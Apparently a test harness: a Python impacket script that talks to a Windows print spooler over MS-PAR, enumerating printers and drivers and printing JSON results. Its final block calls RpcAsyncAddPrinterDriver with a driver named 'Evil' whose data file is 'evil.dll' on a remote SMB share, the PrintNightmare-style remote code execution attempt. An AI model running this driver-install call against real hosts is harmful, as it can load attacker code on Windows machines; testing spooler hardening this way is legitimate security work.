# impacket as a Windows 11 client of MS-PAR: the endpoint mapper on HOST:135 (epm.hept_map), then
# IRemoteWinspool over ncacn_ip_tcp with NTLMSSP at the auth level given; prints one JSON object.
# Usage: impacket-par.py HOST USER PASSWORD LEVEL   (LEVEL: privacy | integrity | none)
import json
import sys

from impacket.dcerpc.v5 import epm, par, rprn, transport
from impacket.dcerpc.v5.dtypes import NULL
from impacket.dcerpc.v5.rpcrt import (
    DCERPCException,
    RPC_C_AUTHN_LEVEL_NONE,
    RPC_C_AUTHN_LEVEL_PKT_INTEGRITY,
    RPC_C_AUTHN_LEVEL_PKT_PRIVACY,
)

host, user, password, level = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4]
out = {}


def code_of(e):
    code = e.get_error_code() if hasattr(e, 'get_error_code') else None
    return code if code is not None else str(e)


def flat(buf):
    return b''.join(buf) if isinstance(buf, list) else bytes(buf)


out['par'] = epm.hept_map(host, par.MSRPC_UUID_PAR, protocol='ncacn_ip_tcp')
out['rprn'] = epm.hept_map(host, rprn.MSRPC_UUID_RPRN, protocol='ncacn_ip_tcp')

t = transport.DCERPCTransportFactory(out['par'])
if level != 'none':
    t.set_credentials(user, password, '', '', '')
dce = t.get_dce_rpc()
dce.set_auth_level(
    {
        'privacy': RPC_C_AUTHN_LEVEL_PKT_PRIVACY,
        'integrity': RPC_C_AUTHN_LEVEL_PKT_INTEGRITY,
        'none': RPC_C_AUTHN_LEVEL_NONE,
    }[level]
)
dce.connect()
dce.bind(par.MSRPC_UUID_PAR)
out['bind'] = 'ok'

try:
    r = par.hRpcAsyncEnumPrinters(dce, par.PRINTER_ENUM_LOCAL, NULL, 1)
    buf = flat(r['pPrinterEnum'])
    out['enumprinters'] = {'returned': r['pcReturned'], 'hasHpColor': 'HpColor'.encode('utf-16-le') in buf}
except DCERPCException as e:
    out['enumprinters'] = code_of(e)
    dce.disconnect()
    print(json.dumps(out))
    sys.exit(0)

client = par.SPLCLIENT_CONTAINER()
client['Level'] = 1
client['ClientInfo']['tag'] = 1
info = par.SPLCLIENT_INFO_1()
info['dwSize'] = 28
info['pMachineName'] = 'PPCLIENT\x00'
info['pUserName'] = user + '\x00'
info['dwBuildNum'] = 22631
info['dwMajorVersion'] = 10
info['dwMinorVersion'] = 0
info['wProcessorArchitecture'] = 9
client['ClientInfo']['pClientInfo1'] = info
r = par.hRpcAsyncOpenPrinter(dce, '\\\\%s\\HpColor\x00' % host, accessRequired=rprn.PRINTER_ACCESS_USE, pClientInfo=client)
handle = r['pHandle']
out['open'] = {'status': r['ErrorCode'], 'handleLen': len(bytes(handle))}
r = par.hRpcAsyncClosePrinter(dce, handle)
out['close'] = {'status': r['ErrorCode'], 'handle': bytes(r['phPrinter']).hex()}

# Windows 2000's build: RpcAsyncOpenPrinter refuses it with ERROR_ACCESS_DENIED.
info['dwBuildNum'] = 2195
try:
    r = par.hRpcAsyncOpenPrinter(dce, '\\\\%s\\HpColor\x00' % host, accessRequired=rprn.PRINTER_ACCESS_USE, pClientInfo=client)
    out['oldBuild'] = r['ErrorCode']
except DCERPCException as e:
    out['oldBuild'] = code_of(e)

r = par.hRpcAsyncEnumPrinterDrivers(dce, NULL, 'Windows x64\x00', 3)
buf = flat(r['pDrivers'])
out['enumdrivers'] = {'returned': r['pcReturned'], 'hasUnidrv': 'unidrv.dll'.encode('utf-16-le') in buf.lower()}

r = par.hRpcAsyncGetPrinterDriverDirectory(dce, NULL, 'Windows x64\x00', 1)
out['driverdir'] = flat(r['pDriverDirectory']).decode('utf-16-le').split('\x00')[0]

container = par.DRIVER_CONTAINER()
container['Level'] = 2
container['DriverInfo']['tag'] = 2
d = par.DRIVER_INFO_2()
d['cVersion'] = 3
d['pName'] = 'Evil\x00'
d['pEnvironment'] = 'Windows x64\x00'
d['pDriverPath'] = 'C:\\Windows\\System32\\DriverStore\\FileRepository\\ntprint.inf_amd64\\Amd64\\UNIDRV.DLL\x00'
d['pDataFile'] = '\\\\10.0.0.66\\share\\evil.dll\x00'
d['pConfigFile'] = 'C:\\Windows\\System32\\kernelbase.dll\x00'
container['DriverInfo']['Level2'] = d
try:
    r = par.hRpcAsyncAddPrinterDriver(dce, '\\\\%s\x00' % host, container, rprn.APD_COPY_ALL_FILES | 0x10 | 0x8000)
    out['adddriver'] = r['ErrorCode']
except DCERPCException as e:
    out['adddriver'] = code_of(e)
dce.disconnect()
print(json.dumps(out))
